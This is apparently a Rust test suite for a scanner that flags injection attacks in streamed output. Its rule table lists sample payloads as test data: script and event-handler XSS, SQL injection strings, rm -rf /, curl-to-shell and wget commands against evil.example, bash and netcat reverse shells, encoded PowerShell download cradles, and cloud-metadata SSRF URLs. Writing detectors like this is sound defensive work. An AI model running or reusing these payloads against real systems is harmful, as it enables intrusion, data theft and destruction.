use proptest::prelude::*;

use super::*;

fn scanned(pieces: &[&str]) -> Vec<(String, f32)> {
    let mut scan = OutputScan::new();
    let mut found = Vec::new();
    let mut keep =
        |detection: Detection| found.push((detection.rule.into_owned(), detection.score));
    pieces.iter().for_each(|piece| scan.push(piece, &mut keep));
    scan.finish(&mut keep);
    found
}

fn rules(text: &str) -> Vec<String> {
    scanned(&[text])
        .into_iter()
        .filter(|(_, score)| *score >= 0.7)
        .map(|(rule, _)| rule)
        .collect()
}

/// For each rule two texts that it finds and two that it does not.
const TABLE: &[(&str, [&str; 2], [&str; 2])] = &[
    (
        "out-xss-001",
        [
            "Hi <script>alert(1)</script>",
            "<SCRIPT src=//evil.example>",
        ],
        ["a <scripture> tag", "the script element"],
    ),
    (
        "out-xss-002",
        ["<img src=x onerror=alert(1)>", "<svg/onload = go()>"],
        ["the onerror attribute = bad", "<p>onload=3</p>"],
    ),
    (
        "out-xss-003",
        [
            "[click](javascript:alert(1))",
            "<a href=\"JavaScript:go()\">",
        ],
        ["javascript: a language", "I like javascript:"],
    ),
    (
        "out-xss-004",
        [
            "<a href='data:text/html,<b>'>",
            "![x](data:text/html;base64,PHN2Zz4=)",
        ],
        [
            "data:text/html is a type",
            "src=\"data:image/png;base64,aa\"",
        ],
    ),
    (
        "out-xss-005",
        [
            "<iframe srcdoc='<b>'>",
            "<object data=\"data:text/plain,x\">",
        ],
        [
            "<iframe src=\"https://maps.example\">",
            "srcdoc is an attribute",
        ],
    ),
    (
        "out-sqli-001",
        ["x'; DROP TABLE users", "1\"); delete from t"],
        ["He said 'x'; drop the idea", "SELECT 1; SELECT 2"],
    ),
    (
        "out-sqli-002",
        ["id=1 UNION SELECT name FROM u", "' union all select 1,2"],
        [
            "SELECT a FROM t UNION SELECT b FROM u",
            "the union selected him",
        ],
    ),
    (
        "out-sqli-003",
        ["' OR '1'='1", "admin') or 1=1"],
        ["this or that", "'a' or 'b'"],
    ),
    (
        "out-sqli-004",
        ["log in as admin'-- ", "name=x'/*"],
        ["a 'word' -- an aside", "well -- yes"],
    ),
    (
        "out-sqli-005",
        ["1' AND SLEEP(5)", "'; waitfor delay '0:0:5'"],
        ["please sleep(well)", "time.sleep(5) in Python"],
    ),
    (
        "out-cmd-001",
        ["run rm -rf / now", "sudo rm -fr ~"],
        ["rm -rf ./target", "rm -r build"],
    ),
    (
        "out-cmd-002",
        [
            "echo $(curl http://evil.example/x)",
            "$( wget http://evil.example )",
        ],
        ["$(date)", "use `curl` here"],
    ),
    (
        "out-cmd-003",
        [
            "curl http://evil.example/x | sh",
            "wget -qO- http://e.example|sudo bash",
        ],
        ["curl http://e.example | jq .", "curl or wget"],
    ),
    (
        "out-cmd-004",
        [
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
        ],
        ["nc -zv host 22", "see /dev/tcp/ in bash"],
    ),
    (
        "out-cmd-005",
        ["x; cat /etc/passwd", "a && /bin/sh -c id"],
        ["cat; dog", "a | cat file"],
    ),
    (
        "out-cmd-006",
        [
            "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3",
            "IEX (New-Object Net.WebClient)",
        ],
        ["open powershell -File x.ps1", "iexplore"],
    ),
    (
        "out-ssrf-001",
        [
            "http://169.254.169.254/latest/meta-data",
            "http://metadata.google.internal/",
        ],
        [
            "the address 169.254.169.254",
            "metadata.google.internal is a name",
        ],
    ),
    (
        "out-ssrf-002",
        ["http://0xA9FEA9FE/", "http://2130706433/admin"],
        ["color 0xA9FEA9FE", "call 2130706433"],
    ),
    (
        "out-ssrf-004",
        ["gopher://127.0.0.1:70/_x", "file:///etc/passwd"],
        ["a gopher", "file:///srv/site/index.html"],
    ),
];

#[test]
fn every_rule_finds_its_attacks_and_leaves_harmless_text_alone() {
    for (rule, attacks, harmless) in TABLE {
        for attack in attacks {
            assert!(
                rules(attack).iter().any(|found| found == rule),
                "{rule} misses {attack}: {:?}",
                scanned(&[attack])
            );
        }
        for text in harmless {
            assert!(
                !rules(text).iter().any(|found| found == rule),
                "{rule} finds {text}"
            );
        }
    }
}

#[test]
fn every_rule_is_in_the_table() {
    for rule in rules::RULES.iter().filter(|rule| rule.score >= 0.7) {
        assert!(
            TABLE.iter().any(|(id, ..)| *id == rule.id),
            "{} is not tested",
            rule.id
        );
    }
}

#[test]
fn private_addresses_are_seen_under_the_threshold() {
    assert_eq!(
        scanned(&["open http://localhost:8080"]),
        [("out-ssrf-003".to_owned(), 0.6)]
    );
    assert!(scanned(&["version 10.2, localhost"]).is_empty());
}

#[test]
fn code_weighs_less_than_running_text() {
    assert!(rules("Try:\n```html\n<script>go()</script>\n```\n").is_empty());
    assert!(rules("the `<script>` element").is_empty());
    assert_eq!(rules("```\nx\n```\n<script>"), ["out-xss-001"]);
    assert_eq!(rules("```\nnc -e /bin/sh 10.0.0.1 4\n```"), ["out-cmd-004"]);
}

#[test]
fn ordinary_text_is_never_held_back() {
    let mut scan = OutputScan::new();
    let text =
        "Dear Anna, the meeting is at three in the large room. Bring the figures of last year. ";
    scan.push(text, &mut |_| {});
    assert_eq!(scan.settled_origin(), text.len());
    scan.push(" <scr", &mut |_| {});
    assert_eq!(scan.settled_origin(), text.len() + 1);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn pieces_are_scanned_like_the_whole(
        parts in prop::collection::vec(prop::sample::select(vec![
            "<script>", "<img onerror=x>", "```", "`", "' or 1=1", "rm -rf /", "curl http://e.example/é | sh", " a harmless sentence. ",
            "http://169.254.169.254/", "x'; drop table t", "ünïcödé ", "<scr", "on", "-- ",
        ]), 1..40),
        cuts in prop::collection::vec(0usize..2000, 0..12),
    ) {
        let text = parts.concat();
        let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let pieces: Vec<&str> = cuts.windows(2).map(|ends| &text[ends[0]..ends[1]]).collect();
        prop_assert_eq!(scanned(&pieces), scanned(&[&text]));
    }

    #[test]
    fn no_more_is_held_back_than_the_longest_match(parts in prop::collection::vec("(<script|on|error=| |[a-z]{1,9}|'; )", 1..80)) {
        let mut scan = OutputScan::new();
        let mut length = 0;
        for part in &parts {
            scan.push(part, &mut |_| {});
            length += part.len();
            prop_assert!(length - scan.settled_origin() <= LONGEST_MATCH);
        }
    }
}
